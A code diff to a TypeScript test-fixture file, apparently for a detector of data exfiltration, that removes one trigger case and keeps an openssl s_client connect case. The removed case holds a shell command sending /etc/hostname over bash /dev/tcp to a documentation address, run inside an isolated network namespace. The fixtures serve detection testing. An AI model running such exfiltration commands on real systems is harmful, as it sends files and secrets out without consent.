@@ -51,12 +51,4 @@ export const exfiltration: Triggers = {
     hits: ['openssl s_client -quiet -connect 192.0.2.7:443'],
     misses: ['openssl s_client -connect 192.0.2.7:443'],
   },
-  'exfiltration/data-sent-by-file-tool': {
-    hits: [
-      {
-        sh: 'unshare -n sh -c "ip link set lo up; ip address add 192.0.2.7/32 dev lo; timeout 3 python3 -c \\"import socket; s = socket.socket(); s.bind((str(), 9001)); s.listen(); c = s.accept()[0].recv(9)\\" & until timeout 2 bash -c \\"exec 3<>/dev/tcp/192.0.2.7/9001; cat /etc/hostname >&3\\" 2> /dev/null; do :; done; wait"',
-      },
-    ],
-    misses: [{ sh: 'bash -c "echo > /dev/tcp/127.0.0.1/9001" 2> /dev/null; true' }],
-  },
 }
